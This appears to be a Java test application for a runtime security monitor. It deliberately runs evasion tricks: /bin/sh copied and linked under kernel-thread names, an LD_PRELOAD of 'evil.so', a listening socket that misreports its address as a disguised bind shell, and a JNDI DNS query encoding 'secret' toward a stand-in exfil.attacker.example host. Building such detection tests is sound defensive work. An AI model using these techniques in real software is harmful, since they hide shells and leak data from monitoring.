package dev.tripline.testapp;

import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.Hashtable;
import java.util.List;
import java.util.concurrent.TimeUnit;
import javax.naming.NamingException;
import javax.naming.directory.InitialDirContext;

/**
 * Ways around the obvious: a shell under another name (a copy, a link, /proc/self/exe), a known
 * command re-run with LD_PRELOAD, a reverse DNS lookup, a JNDI DNS query. Usage: SidestepApp <work
 * dir>
 */
public final class SidestepApp {
  public static void main(String[] args) throws Exception {
    Path dir = Path.of(args[0]);
    Files.createDirectories(dir);
    Path copy = dir.resolve("kworker");
    Files.copy(Path.of("/bin/sh"), copy, StandardCopyOption.REPLACE_EXISTING);
    copy.toFile().setExecutable(true);
    Path link = dir.resolve("kthreadd");
    Files.deleteIfExists(link);
    Files.createSymbolicLink(link, Path.of("/bin/sh"));
    run(List.of(copy.toString(), "-c", "echo copied"), null);
    run(List.of(link.toString(), "-c", "echo linked"), null);
    run(List.of("/proc/self/exe", "-version"), null);
    // the same command three times: plain, with LD_PRELOAD, with a harmless variable changed
    run(List.of("/bin/echo", "preload"), null);
    run(List.of("/bin/echo", "preload"), dir.resolve("evil.so").toString());
    run(List.of("/bin/echo", "preload"), "");
    reverse();
    jndiDns();
    lyingServer();
    System.out.println("SIDESTEPAPP DONE");
  }

  /** Runs {@code cmd}; {@code preload}: LD_PRELOAD's value, "" to change TZ instead. */
  private static void run(List<String> cmd, String preload) throws Exception {
    ProcessBuilder pb = new ProcessBuilder(cmd).redirectErrorStream(true);
    if (preload != null && preload.isEmpty()) {
      pb.environment().put("TZ", "UTC");
    } else if (preload != null) {
      pb.environment().put("LD_PRELOAD", preload);
    }
    Process p = pb.start();
    p.getInputStream().readAllBytes();
    p.waitFor(30, TimeUnit.SECONDS);
  }

  /**
   * A bind shell's disguise: a ServerSocket that says it listens on 127.0.0.1:8080 and hands out
   * sockets that say they come from 10.9.9.9, bound in truth to an ephemeral port on all
   * interfaces.
   */
  private static void lyingServer() throws Exception {
    try (LyingServer server = new LyingServer()) {
      server.bind(new InetSocketAddress(0));
      System.out.println("lying server on " + server.realPort() + " says " + server.getLocalPort());
      try (Socket client = new Socket(InetAddress.getLoopbackAddress(), server.realPort());
          Socket accepted = server.accept()) {
        System.out.println("accepted from " + accepted.getInetAddress());
      }
    }
  }

  private static final class LyingServer extends ServerSocket {
    LyingServer() throws java.io.IOException {
      super();
    }

    int realPort() {
      return super.getLocalPort();
    }

    @Override
    public int getLocalPort() {
      return 8080;
    }

    @Override
    public SocketAddress getLocalSocketAddress() {
      return new InetSocketAddress(InetAddress.getLoopbackAddress(), 8080);
    }

    @Override
    public InetAddress getInetAddress() {
      return InetAddress.getLoopbackAddress();
    }

    @Override
    public Socket accept() throws java.io.IOException {
      Socket s = new LyingSocket();
      implAccept(s);
      return s;
    }
  }

  private static final class LyingSocket extends Socket {
    @Override
    public InetAddress getInetAddress() {
      try {
        return InetAddress.getByAddress(new byte[] {10, 9, 9, 9});
      } catch (java.net.UnknownHostException e) {
        throw new IllegalStateException(e);
      }
    }

    @Override
    public int getLocalPort() {
      return 8080;
    }
  }

  /** getHostName() of an address-only InetAddress: a PTR query. */
  private static void reverse() throws Exception {
    InetAddress a = InetAddress.getByAddress(new byte[] {127, 0, 0, 1});
    System.out.println("reverse 127.0.0.1 = " + a.getHostName());
  }

  /** A TXT query through JNDI to a local port nothing answers on: the query name is the payload. */
  @SuppressWarnings("BanJNDI") // deliberate: the query a JNDI injection makes must be seen
  private static void jndiDns() throws Exception {
    int port;
    try (DatagramSocket free = new DatagramSocket(0, InetAddress.getLoopbackAddress())) {
      port = free.getLocalPort();
    }
    Hashtable<String, String> env = new Hashtable<>();
    env.put("java.naming.factory.initial", "com.sun.jndi.dns.DnsContextFactory");
    env.put("com.sun.jndi.dns.timeout.initial", "200");
    env.put("com.sun.jndi.dns.timeout.retries", "1");
    try {
      new InitialDirContext(env)
          .getAttributes(
              "dns://127.0.0.1:" + port + "/c2VjcmV0.exfil.attacker.example", new String[] {"TXT"});
    } catch (NamingException expected) {
      System.out.println("jndi dns: " + expected.getClass().getSimpleName());
    }
  }
}
